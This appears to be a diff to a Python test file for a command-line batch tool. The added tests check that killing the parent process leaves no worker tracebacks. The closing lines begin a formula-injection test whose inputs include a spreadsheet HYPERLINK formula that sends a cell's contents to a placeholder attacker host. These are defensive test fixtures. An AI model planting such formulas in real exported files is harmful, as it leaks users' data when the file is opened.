@@ -222,6 +222,43 @@ def test_ctrl_c_ends_a_paused_batch_every_time(tmp_path):
         assert code == 130 and "Traceback" not in stderr and took < 5
 
 
+def test_sigkill_of_the_batch_parent_leaves_no_worker_traceback(tmp_path):
+    # issue 24: the workers finished their chunk, wrote to the dead parent's pipe and printed
+    # BrokenPipeError tracebacks on the terminal
+    inputs = tmp_path / "in"
+    inputs.mkdir(parents=True)
+    for i in range(24):
+        shutil.copy(NN, inputs / f"c{i:02d}.yaml")
+    out = tmp_path / "out"
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "cli", "batch", str(inputs), "-o", str(out), "-j", "2"],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        start_new_session=True,
+        text=True,
+    )
+    deadline = time.monotonic() + 60
+    while not (out.is_dir() and any(p.suffix == ".md" for p in out.iterdir())):
+        assert proc.poll() is None and time.monotonic() < deadline, "the batch did not start"
+        time.sleep(0.02)
+    os.kill(proc.pid, signal.SIGKILL)  # the parent only: its workers are left to notice
+    try:
+        # stderr closes when the last worker (which shares it) has exited
+        _, stderr = proc.communicate(timeout=30)
+    except subprocess.TimeoutExpired:
+        os.killpg(proc.pid, signal.SIGKILL)
+        proc.communicate()
+        pytest.fail("the workers outlived their parent")
+    assert proc.returncode == -signal.SIGKILL
+    assert "Traceback" not in stderr and "Error" not in stderr, stderr
+
+
+@pytest.mark.slow
+def test_sigkill_of_the_batch_parent_leaves_no_worker_traceback_every_time(tmp_path):
+    for i in range(3):  # the race (a chunk half drafted when the parent dies) varies by run
+        test_sigkill_of_the_batch_parent_leaves_no_worker_traceback(tmp_path / str(i))
+
+
 # --- High 5: formula injection -------------------------------------------------------------------
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&B3,"x")', "+1+1", "-2+3", "@SUM(A1:A9)"]
